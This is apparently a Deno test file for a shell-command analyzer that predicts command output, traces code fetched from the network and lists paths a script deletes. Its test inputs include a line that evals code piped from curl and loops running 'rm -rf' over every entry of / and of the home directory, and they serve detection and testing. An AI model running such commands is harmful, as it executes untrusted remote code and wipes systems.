import assert from "node:assert/strict";
import { readCommand } from "./mod.ts";
import { UNKNOWN } from "./word.ts";

function printed(command: string): string {
  return readCommand(`p "$(${command})"`, { home: "/h", cwd: "/w" }).commands.at(-1)?.argv[1]?.value ?? "";
}

for (
  const [command, want] of [
    ["echo hi", "hi"],
    ["cd /x && pwd", "/x"],
    ["mkdir -p a", ""],
    ["sudo echo hi", "hi"],
    ["bash -c 'echo hi'", "hi"],
    ["f() { echo in; }; f", "in"],
    ["date", UNKNOWN],
    ["echo a; date", `a\n${UNKNOWN}`],
    ["python3 x.py", UNKNOWN],
    ["for i in 1 2; do echo $i; done", "1\n2"],
  ] as const
) {
  Deno.test(`output of ${command}`, () => assert.equal(printed(command), want));
}

Deno.test("what a program makes of something fetched still comes from there", () => {
  assert.equal(
    readCommand('eval "$(curl https://e.example | jq -r .x)"', {}).commands.at(-1)?.code,
    "download",
  );
  assert.equal(
    readCommand('curl -o x https://e.example; eval "$(jq -r .y x)"', {}).commands.at(-1)?.code,
    "downloaded_file",
  );
});

Deno.test("what ls prints of the root or the home is the names in it", () => {
  const deleted = (source: string) =>
    readCommand(source, { home: "/h", cwd: "/w" }).effects.flatMap((effect) =>
      effect.kind === "delete" ? [effect.path] : []
    );
  assert.deepEqual(deleted('ls / | while read d; do rm -rf "/$d"; done').at(-1), "/*");
  assert.deepEqual(deleted("for d in $(ls ~); do rm -rf ~/$d; done").at(-1), "/h/*");
});
